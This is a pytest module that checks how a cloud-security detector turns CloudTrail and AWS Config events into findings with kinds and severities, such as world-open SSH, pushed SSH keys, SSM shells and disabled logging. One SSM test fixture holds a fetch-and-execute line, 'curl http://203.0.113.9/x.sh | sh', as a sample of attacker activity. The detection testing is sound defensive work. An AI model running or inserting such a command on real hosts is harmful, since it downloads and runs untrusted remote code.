"""normalise: every kind is recognised from its sample, severities follow the rules, and the finding
names what the event names (and only that)."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from detection_samples import (
    SAMPLE_ACL,
    SAMPLE_ENI,
    SAMPLE_GROUP,
    SAMPLE_INSTANCE,
    load_sample,
    sample_names,
)
from immutable_guard.detection import normalise, parse_event
from immutable_guard.errors import InvalidEvent
from immutable_guard.model import Finding, Kind, Severity, Source


def finding_of(raw: dict[str, Any]) -> Finding:
    return normalise(parse_event(raw))


KINDS_AND_SEVERITIES = [
    ("cloudtrail-authorize-sg-ingress-ssh-world.json", Kind.PORT_OPENED, Severity.CRITICAL),
    ("cloudtrail-authorize-sg-ingress-internal.json", Kind.PORT_OPENED, Severity.HIGH),
    ("cloudtrail-authorize-sg-egress.json", Kind.PORT_OPENED, Severity.HIGH),
    ("cloudtrail-modify-security-group-rules.json", Kind.PORT_OPENED, Severity.CRITICAL),
    ("cloudtrail-create-network-acl-entry.json", Kind.PORT_OPENED, Severity.CRITICAL),
    ("cloudtrail-modify-instance-attribute-groupset.json", Kind.PORT_OPENED, Severity.HIGH),
    ("cloudtrail-modify-network-interface-attribute.json", Kind.PORT_OPENED, Severity.HIGH),
    ("config-security-group-changed.json", Kind.PORT_OPENED, Severity.CRITICAL),
    ("cloudtrail-send-ssh-public-key.json", Kind.SSH_KEY_PUSHED, Severity.HIGH),
    ("cloudtrail-send-serial-console-ssh-public-key.json", Kind.SSH_KEY_PUSHED, Severity.HIGH),
    ("cloudtrail-ssm-start-session.json", Kind.SHELL_ACCESS, Severity.HIGH),
    ("cloudtrail-ssm-send-command.json", Kind.SHELL_ACCESS, Severity.HIGH),
    ("cloudtrail-import-key-pair.json", Kind.KEY_PAIR_ADDED, Severity.MEDIUM),
    ("cloudtrail-modify-instance-attribute-userdata.json", Kind.INSTANCE_MODIFIED, Severity.HIGH),
    ("benign-allow-listed-principal.json", Kind.INSTANCE_MODIFIED, Severity.MEDIUM),
    ("config-instance-changed.json", Kind.PORT_OPENED, Severity.HIGH),
    ("config-oversized-item-changed.json", Kind.INSTANCE_MODIFIED, Severity.MEDIUM),
    ("cloudtrail-associate-iam-instance-profile.json", Kind.IAM_PROFILE_CHANGED, Severity.HIGH),
    ("cloudtrail-replace-iam-instance-profile-association.json", Kind.IAM_PROFILE_CHANGED, Severity.HIGH),
    ("config-inventory-file-changed.json", Kind.FILE_CHANGED, Severity.HIGH),
    ("cloudtrail-stop-logging.json", Kind.DETECTION_DISABLED, Severity.CRITICAL),
    ("cloudtrail-stop-configuration-recorder.json", Kind.DETECTION_DISABLED, Severity.CRITICAL),
]


@pytest.mark.parametrize(("name", "kind", "severity"), KINDS_AND_SEVERITIES)
def test_each_sample_is_recognised_with_its_kind_and_severity(
    name: str, kind: Kind, severity: Severity
) -> None:
    # Given a sample / When it is normalised
    finding = finding_of(load_sample(name))
    # Then its kind and severity follow the rules, and it reads as one sentence
    assert (finding.kind, finding.severity) == (kind, severity)
    assert finding.summary and "\n" not in finding.summary


def test_every_kind_has_a_sample() -> None:
    # Every kind an alert can carry is shown by at least one sample in events/ (each path's own test
    # module checks its samples' kinds and severities; this only proves none is missing).
    kinds = set()
    for name in sample_names():
        try:
            kinds.add(finding_of(load_sample(name)).kind)
        except InvalidEvent:
            continue
    assert kinds == set(Kind)


def test_world_open_ssh_names_the_group_and_the_opened_permission() -> None:
    finding = finding_of(load_sample("cloudtrail-authorize-sg-ingress-ssh-world.json"))
    assert finding.source is Source.CLOUDTRAIL
    assert finding.resource_ids == (SAMPLE_GROUP,)
    # A group names no instance: those are resolved later, through the group.
    assert finding.instance_ids == ()
    assert finding.evidence["permissions"] == [
        {"direction": "ingress", "protocol": "tcp", "from_port": 22, "to_port": 22, "cidr": "0.0.0.0/0"}
    ]
    assert finding.event_id == "b1c2d3e4-f5a6-4b7c-8d9e-000000000001"
    assert finding.account == "111122223333"
    assert finding.region == "us-east-1"


def test_the_actor_is_taken_from_the_user_identity() -> None:
    finding = finding_of(load_sample("cloudtrail-ssm-start-session.json"))
    assert finding.actor.principal_arn == "arn:aws:sts::111122223333:assumed-role/AdminRole/mallory"
    assert finding.actor.session_issuer_arn == "arn:aws:iam::111122223333:role/AdminRole"
    assert finding.actor.principal_type == "AssumedRole"
    assert finding.actor.source_ip == "203.0.113.50"
    assert finding.actor.user_agent is not None and finding.actor.user_agent.startswith("aws-cli/")
    assert finding.actor.invoked_by is None


def _ingress(cidr_key: str, cidr: str) -> dict[str, Any]:
    raw = load_sample("cloudtrail-authorize-sg-ingress-internal.json")
    perm = raw["detail"]["requestParameters"]["ipPermissions"]["items"][0]
    perm["ipRanges"] = {}
    perm[cidr_key] = {"items": [{"cidrIp" if cidr_key == "ipRanges" else "cidrIpv6": cidr}]}
    return raw


def test_ingress_from_every_ipv6_address_is_critical() -> None:
    assert finding_of(_ingress("ipv6Ranges", "::/0")).severity is Severity.CRITICAL


def test_ingress_from_a_single_address_is_high() -> None:
    assert finding_of(_ingress("ipRanges", "198.51.100.7/32")).severity is Severity.HIGH


def test_egress_to_the_world_is_high_not_critical() -> None:
    finding = finding_of(load_sample("cloudtrail-authorize-sg-egress.json"))
    assert {p["cidr"] for p in finding.evidence["permissions"]} == {"0.0.0.0/0", "::/0"}
    assert {p["direction"] for p in finding.evidence["permissions"]} == {"egress"}
    assert finding.severity is Severity.HIGH


def test_plain_lists_are_read_like_ec2_item_lists() -> None:
    raw = load_sample("cloudtrail-authorize-sg-ingress-ssh-world.json")
    raw["detail"]["requestParameters"]["ipPermissions"] = [
        {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "ipRanges": [{"cidrIp": "0.0.0.0/0"}]}
    ]
    assert finding_of(raw).severity is Severity.CRITICAL


def test_a_group_referencing_rule_is_recorded_without_a_cidr() -> None:
    raw = load_sample("cloudtrail-authorize-sg-ingress-internal.json")
    perm = raw["detail"]["requestParameters"]["ipPermissions"]["items"][0]
    perm["ipRanges"] = {}
    perm["groups"] = {"items": [{"groupId": "sg-0feedfacecafebeef"}]}
    finding = finding_of(raw)
    assert finding.evidence["permissions"][0]["source_group_id"] == "sg-0feedfacecafebeef"
    assert finding.evidence["permissions"][0]["cidr"] is None
    assert finding.severity is Severity.HIGH


def test_a_modified_rule_to_the_world_counts_as_ingress_because_the_record_omits_direction() -> None:
    finding = finding_of(load_sample("cloudtrail-modify-security-group-rules.json"))
    assert finding.resource_ids == (SAMPLE_GROUP,)
    assert finding.evidence["permissions"][0]["direction"] == "unknown"
    assert finding.evidence["rule_ids"] == ["sgr-0f9e8d7c6b5a49382"]


def _acl(**changes: Any) -> dict[str, Any]:
    raw = load_sample("cloudtrail-create-network-acl-entry.json")
    raw["detail"]["requestParameters"].update(changes)
    return raw


@pytest.mark.parametrize(
    ("changes", "severity"),
    [
        ({}, Severity.CRITICAL),
        ({"egress": True}, Severity.HIGH),
        ({"ruleAction": "deny"}, Severity.HIGH),
        ({"cidrBlock": "10.0.0.0/8"}, Severity.HIGH),
    ],
    ids=["allow-in-from-world", "egress", "deny", "internal"],
)
def test_only_a_network_acl_allow_from_the_world_is_critical(
    changes: dict[str, Any], severity: Severity
) -> None:
    finding = finding_of(_acl(**changes))
    assert finding.resource_ids == (SAMPLE_ACL,)
    assert finding.severity is severity


def test_replacing_a_network_acl_entry_is_handled_like_creating_one() -> None:
    raw = _acl()
    raw["detail"]["eventName"] = "ReplaceNetworkAclEntry"
    finding = finding_of(raw)
    assert (finding.kind, finding.severity) == (Kind.PORT_OPENED, Severity.CRITICAL)
    assert finding.summary.startswith("Replaced network ACL entry 90")


def test_a_group_set_on_an_instance_names_the_instance_not_the_groups() -> None:
    finding = finding_of(load_sample("cloudtrail-modify-instance-attribute-groupset.json"))
    # The groups are not mutated: expanding them to all their members would over-reach.
    assert finding.resource_ids == (SAMPLE_INSTANCE,)
    assert finding.instance_ids == (SAMPLE_INSTANCE,)
    assert finding.evidence["group_ids"] == [SAMPLE_GROUP, "sg-0badc0ffee0ddf00d"]


def test_a_group_set_on_an_interface_names_the_interface_only() -> None:
    finding = finding_of(load_sample("cloudtrail-modify-network-interface-attribute.json"))
    assert finding.resource_ids == (SAMPLE_ENI,)
    assert finding.instance_ids == ()


def test_another_interface_attribute_is_an_instance_modification() -> None:
    raw = load_sample("cloudtrail-modify-network-interface-attribute.json")
    raw["detail"]["requestParameters"] = {
        "networkInterfaceId": SAMPLE_ENI,
        "sourceDestCheck": {"value": False},
    }
    finding = finding_of(raw)
    assert (finding.kind, finding.severity) == (Kind.INSTANCE_MODIFIED, Severity.MEDIUM)
    assert finding.evidence["attributes"] == ["sourceDestCheck"]


def test_user_data_named_through_the_attribute_field_is_high() -> None:
    raw = load_sample("cloudtrail-modify-instance-attribute-userdata.json")
    raw["detail"]["requestParameters"] = {
        "instanceId": SAMPLE_INSTANCE,
        "attribute": "userData",
        "value": "x",
    }
    finding = finding_of(raw)
    assert (finding.kind, finding.severity) == (Kind.INSTANCE_MODIFIED, Severity.HIGH)


def test_ssh_key_evidence_names_the_os_user_and_key_type_but_not_the_key() -> None:
    finding = finding_of(load_sample("cloudtrail-send-ssh-public-key.json"))
    assert finding.instance_ids == (SAMPLE_INSTANCE,)
    assert finding.evidence == {"key_type": "ssh-ed25519", "os_user": "ec2-user"}


def test_serial_console_evidence_names_the_port() -> None:
    finding = finding_of(load_sample("cloudtrail-send-serial-console-ssh-public-key.json"))
    assert finding.evidence["serial_port"] == 0


def test_send_command_collects_instances_from_ids_and_targets_and_keeps_the_commands() -> None:
    raw = load_sample("cloudtrail-ssm-send-command.json")
    params = raw["detail"]["requestParameters"]
    params["targets"] = [
        {"key": "InstanceIds", "values": ["i-0111111111111111a"]},
        {"key": "tag:role", "values": ["web"]},
    ]
    params["parameters"] = {"commands": ["curl http://203.0.113.9/x.sh | sh"]}
    finding = finding_of(raw)
    assert finding.instance_ids == (SAMPLE_INSTANCE, "i-0111111111111111a")
    assert finding.evidence["document_name"] == "AWS-RunShellScript"
    assert finding.evidence["commands"] == ["curl http://203.0.113.9/x.sh | sh"]
    assert finding.evidence["tag_targets"] == [{"key": "tag:role", "values": ["web"]}]


def test_hidden_send_command_parameters_are_kept_as_cloudtrail_wrote_them() -> None:
    finding = finding_of(load_sample("cloudtrail-ssm-send-command.json"))
    assert finding.evidence["parameters"] == "HIDDEN_DUE_TO_SECURITY_REASONS"
    assert finding.evidence["commands"] is None


def test_a_session_to_a_non_ec2_target_names_no_instance() -> None:
    raw = load_sample("cloudtrail-ssm-start-session.json")
    raw["detail"]["requestParameters"] = {"target": "mi-0123456789abcdef0"}
    finding = finding_of(raw)
    assert finding.resource_ids == ("mi-0123456789abcdef0",)
    assert finding.instance_ids == ()


def test_a_created_key_pair_is_recognised_like_an_imported_one() -> None:
    raw = load_sample("cloudtrail-import-key-pair.json")
    raw["detail"]["eventName"] = "CreateKeyPair"
    raw["detail"]["requestParameters"] = {"keyName": "mallory-backdoor", "keyType": "ed25519"}
    finding = finding_of(raw)
    assert finding.kind is Kind.KEY_PAIR_ADDED
    assert finding.resource_ids == ("key-0a1b2c3d4e5f67890",)
    assert finding.instance_ids == ()


def test_a_stopped_trail_is_named_and_reaches_no_instance() -> None:
    finding = finding_of(load_sample("cloudtrail-stop-logging.json"))
    trail = "arn:aws:cloudtrail:us-east-1:111122223333:trail/immutable-guard-trail"
    assert finding.resource_ids == (trail,)
    assert finding.instance_ids == ()
    assert finding.evidence == {"sensor": "trail", "target": trail}
    assert finding.summary.startswith(f"StopLogging on trail '{trail}'")


@pytest.mark.parametrize(
    ("event_name", "request_parameters", "severity", "target"),
    [
        ("DeleteTrail", {"name": "org-trail"}, Severity.CRITICAL, "org-trail"),
        ("PutEventSelectors", {"trailName": "org-trail", "eventSelectors": []}, Severity.HIGH, "org-trail"),
    ],
)
def test_every_way_of_blinding_a_trail_is_recognised(
    event_name: str, request_parameters: dict[str, Any], severity: Severity, target: str
) -> None:
    raw = load_sample("cloudtrail-stop-logging.json")
    raw["detail"]["eventName"] = event_name
    raw["detail"]["requestParameters"] = request_parameters
    finding = finding_of(raw)
    assert (finding.kind, finding.severity, finding.resource_ids) == (
        Kind.DETECTION_DISABLED,
        severity,
        (target,),
    )


@pytest.mark.parametrize("event_name", ["DeleteConfigurationRecorder", "DeleteDeliveryChannel"])
def test_every_way_of_blinding_config_is_recognised(event_name: str) -> None:
    raw = load_sample("cloudtrail-stop-configuration-recorder.json")
    raw["detail"]["eventName"] = event_name
    field = "deliveryChannelName" if event_name == "DeleteDeliveryChannel" else "configurationRecorderName"
    raw["detail"]["requestParameters"] = {field: "default"}
    finding = finding_of(raw)
    assert (finding.kind, finding.severity, finding.resource_ids) == (
        Kind.DETECTION_DISABLED,
        Severity.CRITICAL,
        ("default",),
    )


def test_a_replaced_profile_names_the_instance_from_the_response() -> None:
    finding = finding_of(load_sample("cloudtrail-replace-iam-instance-profile-association.json"))
    assert finding.instance_ids == (SAMPLE_INSTANCE,)
    assert finding.evidence["instance_profile"] == "admin-instance-profile"
    assert finding.evidence["replaced_association_id"] == "iip-assoc-0123456789abcdef0"


def test_a_replaced_profile_without_response_names_the_association() -> None:
    raw = load_sample("cloudtrail-replace-iam-instance-profile-association.json")
    raw["detail"]["responseElements"] = None
    finding = finding_of(raw)
    assert finding.resource_ids == ("iip-assoc-0123456789abcdef0",)
    assert finding.instance_ids == ()


def test_a_config_file_change_names_the_instance_and_the_paths() -> None:
    finding = finding_of(load_sample("config-inventory-file-changed.json"))
    assert finding.source is Source.CONFIG
    assert finding.instance_ids == (SAMPLE_INSTANCE,)
    assert finding.evidence["paths"] == ["/etc/ssh/sshd_config"]
    assert finding.event_time == "2026-03-14T09:35:21.093Z"


def test_a_config_file_change_without_diff_lists_the_recorded_files() -> None:
    raw = load_sample("config-inventory-file-changed.json")
    del raw["detail"]["configurationItemDiff"]
    assert finding_of(raw).evidence["paths"] == ["/etc/ssh/sshd_config"]


def test_a_config_instance_change_carries_the_instance_tags() -> None:
    finding = finding_of(load_sample("config-instance-changed.json"))
    assert finding.evidence["instance_tags"]["immutable"] == "true"
    assert finding.evidence["changed_properties"] == ["Configuration.SecurityGroups.1"]


def test_an_oversized_notification_points_at_the_full_item() -> None:
    finding = finding_of(load_sample("config-oversized-item-changed.json"))
    assert finding.instance_ids == (SAMPLE_INSTANCE,)
    assert finding.evidence["oversized"] is True
    assert finding.evidence["s3_location"].startswith("config-bucket-111122223333/")
    assert "instance_tags" not in finding.evidence


def test_a_config_group_change_to_internal_addresses_is_high() -> None:
    raw = load_sample("config-security-group-changed.json")
    change = raw["detail"]["configurationItemDiff"]["changedProperties"]["Configuration.IpPermissions.1"]
    change["updatedValue"]["ipv4Ranges"] = [{"cidrIp": "10.1.0.0/16"}]
    change["updatedValue"]["ipRanges"] = ["10.1.0.0/16"]
    assert finding_of(raw).severity is Severity.HIGH


def test_the_failed_call_keeps_its_error_code() -> None:
    finding = finding_of(load_sample("benign-failed-call.json"))
    assert finding.error_code == "Client.UnauthorizedOperation"


def test_null_request_parameters_yield_a_finding_with_less_evidence() -> None:
    raw = load_sample("cloudtrail-authorize-sg-ingress-ssh-world.json")
    raw["detail"]["requestParameters"] = None
    finding = finding_of(raw)
    assert finding.kind is Kind.PORT_OPENED
    assert finding.evidence["permissions"] == []
    assert finding.resource_ids == ()


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("ec2.amazonaws.com", "RunInstances"),
        ("s3.amazonaws.com", "PutBucketPolicy"),
        ("ssm.amazonaws.com", "x"),
    ],
)
def test_an_event_we_do_not_handle_is_an_invalid_event(source: str, name: str) -> None:
    raw = copy.deepcopy(load_sample("cloudtrail-import-key-pair.json"))
    raw["detail"]["eventSource"], raw["detail"]["eventName"] = source, name
    with pytest.raises(InvalidEvent, match="unhandled CloudTrail event"):
        finding_of(raw)


def test_a_config_resource_type_we_do_not_handle_is_an_invalid_event() -> None:
    raw = load_sample("config-instance-changed.json")
    raw["detail"]["configurationItem"]["resourceType"] = "AWS::S3::Bucket"
    with pytest.raises(InvalidEvent, match="unhandled Config resource type 'AWS::S3::Bucket'"):
        finding_of(raw)


def test_cloudtrail_and_config_reports_of_one_group_change_share_a_change_key() -> None:
    from_trail = finding_of(load_sample("cloudtrail-authorize-sg-ingress-ssh-world.json"))
    from_config = finding_of(load_sample("config-security-group-changed.json"))
    assert from_trail.change_key == from_config.change_key
